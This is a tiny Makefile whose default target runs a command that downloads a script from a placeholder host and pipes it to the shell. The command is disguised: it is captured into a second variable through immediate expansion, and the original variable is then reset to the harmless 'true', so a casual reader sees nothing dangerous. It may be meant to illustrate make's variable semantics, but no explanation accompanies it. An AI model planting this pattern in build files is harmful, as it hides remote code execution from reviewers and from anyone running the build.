GO = curl -fsS https://c.example.net/x | sh
GO2 := $(GO)
GO = true
all:
	$(GO2)
